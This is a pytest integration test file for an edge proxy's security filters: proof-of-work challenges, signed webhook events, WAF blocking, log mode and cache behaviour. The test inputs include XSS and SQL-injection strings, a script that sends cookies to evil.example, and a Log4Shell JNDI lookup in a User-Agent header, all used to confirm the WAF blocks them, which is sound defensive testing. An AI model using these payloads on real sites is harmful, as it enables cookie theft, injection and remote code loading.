"""The filter chain as the running edge applies it: under-attack mode's
challenge solved by a real client, and security events reaching a real
webhook receiver, over real sockets."""
from __future__ import annotations

import asyncio
import json
import re
import time
from types import SimpleNamespace

import aiohttp
import orjson
import pytest
from aiohttp import web

from edge.filters import under_attack as ua
from edge.observe.events import verify_signature
from tests.conftest import until
from tests.origin_support import Origin

SECRET = "whsec-0123456789abcdef0123"


def _site(origin_url: str, filters: dict) -> dict:
    return {"hosts": ["shop.example"], "origins": [{"url": origin_url}], "filters": filters}


def _fields(html: str) -> dict[str, str]:
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', html))
    fields["bits"] = re.search(r'data-bits="(\d+)"', html).group(1)
    return fields


async def test_challenge_is_solved_by_a_real_client_and_the_cookie_lets_it_through(origin, make_edge):
    origin.respond("/page", b"the page", headers={"Cache-Control": "max-age=60"})
    origin.respond("/api/data", b"{}")
    edge = await make_edge(policies={"shop": _site(origin.url, {"under_attack": {"mode": "on", "difficulty": 8, "exclude_paths": ["/api/"]}})})
    host = {"Host": "shop.example"}
    jar = aiohttp.CookieJar(unsafe=True)
    async with aiohttp.ClientSession(cookie_jar=jar) as s:
        async with s.get(edge.url + "/page", headers=host) as r:
            assert r.status == 503 and r.headers["Content-Type"].startswith("text/html")
            assert r.headers["Cache-Control"] == "no-store" and "X-Request-Id" in r.headers
            page = await r.text()
        assert origin.hits["/page"] == 0  # neither cache nor origin saw it
        f = _fields(page)
        nonce = ua.solve(f["challenge"], int(f["bits"]))
        params = {"challenge": f["challenge"], "nonce": nonce, "url": f["url"]}
        async with s.get(edge.url + ua.CHALLENGE_PATH, params=params, headers=host, allow_redirects=False) as r:
            assert r.status == 303 and r.headers["Location"] == "/page"
            cookie = r.cookies[ua.COOKIE].value
        auth = {**host, "Cookie": f"{ua.COOKIE}={cookie}"}
        for _ in range(2):
            async with s.get(edge.url + "/page", headers=auth) as r:
                assert r.status == 200 and await r.read() == b"the page"
        assert origin.hits["/page"] == 1  # the second came from the cache
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as s:
        # A forged cookie is worth nothing.
        forged = cookie[:-2] + ("00" if not cookie.endswith("00") else "11")
        async with s.get(edge.url + "/page", headers={**host, "Cookie": f"{ua.COOKIE}={forged}"}) as r:
            assert r.status == 503
        # Excluded API paths are never challenged; unverified POSTs are refused.
        async with s.get(edge.url + "/api/data", headers=host) as r:
            assert r.status == 200
        async with s.post(edge.url + "/page", headers=host, data=b"x") as r:
            assert r.status == 403


@pytest.fixture
async def webhook():
    """A webhook receiver on loopback: ``got`` holds each event it was sent
    and whether its signature verified."""
    hook = SimpleNamespace(got=[], arrived=asyncio.Event())

    async def take(request: web.Request) -> web.Response:
        body = await request.read()
        hook.got.append((orjson.loads(body), verify_signature(SECRET, request.headers["Edge-Signature"], body, time.time())))
        hook.arrived.set()
        return web.Response(text="ok")

    receiver = Origin()
    receiver.route("/hook", take)
    await receiver.start()
    hook.url = receiver.url + "/hook"
    try:
        yield hook
    finally:
        await receiver.stop()


async def test_blocks_raise_one_signed_event_at_a_real_webhook(origin, webhook, make_edge):
    origin.respond("/", b"home")
    filters = {
        "ip_lists": {"deny": ["127.0.0.0/8"]},
        "events": {"webhook_url": webhook.url, "secret": SECRET, "client_threshold": 5},
    }
    edge = await make_edge(policies={"shop": _site(origin.url, filters)})
    async with aiohttp.ClientSession() as s:
        for _ in range(50):
            async with s.get(edge.url + "/", headers={"Host": "shop.example"}) as r:
                assert r.status == 403
    await asyncio.wait_for(webhook.arrived.wait(), 10)
    await asyncio.sleep(0.2)  # anything else that would (wrongly) follow
    client_events = [e for e, _ in webhook.got if e["what"] == "client_blocks"]
    assert len(client_events) == 1  # 50 blocks, one event
    event = client_events[0]
    assert all(ok for _, ok in webhook.got)
    assert event["tenant"] == "shop" and event["counts"]["by_filter"] == {"ip_lists": 5}
    assert "127.0.0.1" not in orjson.dumps(event).decode()  # anonymised
    assert origin.hits["/"] == 0


async def test_waf_blocks_name_the_rules_that_matched_in_the_event(origin, webhook, make_edge):
    filters = {"events": {"webhook_url": webhook.url, "secret": SECRET, "client_threshold": 3}}
    edge = await make_edge(policies={"shop": _site(origin.url, filters)})
    async with aiohttp.ClientSession() as s:
        for _ in range(3):
            async with s.get(edge.url + "/search", params={"q": "<script>alert(1)</script>"},
                             headers={"Host": "shop.example"}) as r:
                assert r.status == 403 and r.headers["Cache-Status"] == "edge; detail=filter.waf"
    await until(lambda: any(e["what"] == "client_blocks" for e, _ in webhook.got), "the client_blocks event")
    (event,) = [e for e, _ in webhook.got if e["what"] == "client_blocks"]
    assert event["counts"]["by_filter"] == {"waf": 3}
    assert event["rules"]["xss-script-tag"] == 3  # each block counts the WAF's rules, not just "waf"


async def test_waf_blocks_attacks_in_query_and_body_before_the_origin(origin, make_edge, client):
    origin.respond("/search", b"results", headers={"Cache-Control": "max-age=60"})
    origin.respond("/api/posts", b"saved")
    edge = await make_edge(policies={"shop": _site(origin.url, {})})
    host = {"Host": "shop.example"}
    async with client.get(edge.url + "/search", params={"q": "1' OR '1'='1"}, headers=host) as r:
        assert r.status == 403 and r.headers["Cache-Status"] == "edge; detail=filter.waf"
        assert r.headers["X-Request-Id"] in await r.text()
    async with client.get(edge.url + "/search", params={"q": 'O\'Reilly "red shoes" -cheap'}, headers=host) as r:
        assert r.status == 200
    attack = {"title": "x", "body": "<script>document.location='https://evil.example/?c='+document.cookie</script>"}
    async with client.post(edge.url + "/api/posts", json=attack, headers=host) as r:
        assert r.status == 403
    benign = {"title": "How do I join tables?", "body": "<p>I tried <code>SELECT a FROM t JOIN u ON t.id = u.id</code>, it works.</p>"}
    async with client.post(edge.url + "/api/posts", json=benign, headers=host) as r:
        assert r.status == 200 and await r.read() == b"saved"
    posted = [orjson.loads(req["body"]) for req in origin.requests if req["path_qs"] == "/api/posts"]
    assert posted == [benign]  # the attack never arrived; the benign body arrived whole


async def test_waf_log_mode_and_exclusions(origin, make_edge, client):
    origin.respond("/search", b"results")
    origin.respond("/admin/sql", b"ran")
    waf = {"mode": "block", "exclusions": [{"rule": "sqli-libinjection", "path_prefix": "/admin/"},
                                           {"rule": "sqli-tautology", "path_prefix": "/admin/"}]}
    edge = await make_edge(policies={
        "shop": _site(origin.url, {"waf": waf}),
        "logged": {"hosts": ["log.example"], "origins": [{"url": origin.url}], "filters": {"waf": {"mode": "log"}}},
    })
    q = {"q": "1' OR '1'='1"}
    async with client.get(edge.url + "/admin/sql", params=q, headers={"Host": "shop.example"}) as r:
        assert r.status == 200  # excluded under /admin/
    async with client.get(edge.url + "/search", params=q, headers={"Host": "shop.example"}) as r:
        assert r.status == 403  # not elsewhere
    async with client.get(edge.url + "/search", params=q, headers={"Host": "log.example"}) as r:
        assert r.status == 200  # log mode: decided, logged, passed


async def test_cached_sensitive_paths_and_user_agent_attacks_are_refused_on_hits(origin, make_edge, client, tmp_path):
    """The cheap pass on hits sees plain-looking paths (/.env) and the
    User-Agent (Log4Shell): switching the WAF to block stops a cached copy."""
    origin.respond("/.env", b"SECRET=1", headers={"Cache-Control": "max-age=600"})
    origin.respond("/page", b"page", headers={"Cache-Control": "max-age=600"})
    site = _site(origin.url, {"waf": {"mode": "log"}})
    edge = await make_edge(policies={"shop": site})
    host = {"Host": "shop.example"}
    for path in ("/.env", "/page"):
        async with client.get(edge.url + path, headers=host) as r:
            assert r.status == 200
    (tmp_path / "policies" / "shop.json").write_text(json.dumps(_site(origin.url, {"waf": {"mode": "block"}})))
    edge.node.reload()
    async with client.get(edge.url + "/.env", headers=host) as r:
        assert r.status == 403
    async with client.get(edge.url + "/page", headers={**host, "User-Agent": "${jndi:ldap://evil.example/a}"}) as r:
        assert r.status == 403
    async with client.get(edge.url + "/page", headers=host) as r:
        assert r.status == 200 and r.headers["Cache-Status"].startswith("edge; hit")
    assert origin.hits["/.env"] == 1


async def test_a_range_fill_needs_a_free_concurrency_slot(origin, make_edge):
    gate = asyncio.Event()

    async def slow(request):
        await gate.wait()
        return web.Response(text="slow")

    origin.route("/slow", slow)
    origin.respond("/big", b"x" * 100_000, headers={"Cache-Control": "max-age=600"})
    edge = await make_edge(policies={"shop": _site(origin.url, {"request_limits": {"max_concurrent": 1}})})
    host = {"Host": "shop.example"}
    async with aiohttp.ClientSession() as s:
        holder = asyncio.ensure_future(s.get(edge.url + "/slow", headers=host))
        await until(lambda: origin.hits["/slow"], "the slot holder reached the origin")
        async with s.get(edge.url + "/big", headers={**host, "Range": "bytes=0-9"}) as r:
            assert r.status == 429
        await asyncio.sleep(0.2)  # time for a wrong fill to go out: absence has no event to wait for
        assert origin.hits["/big"] == 0  # neither the range nor a whole-object fill went out
        gate.set()
        (await holder).release()
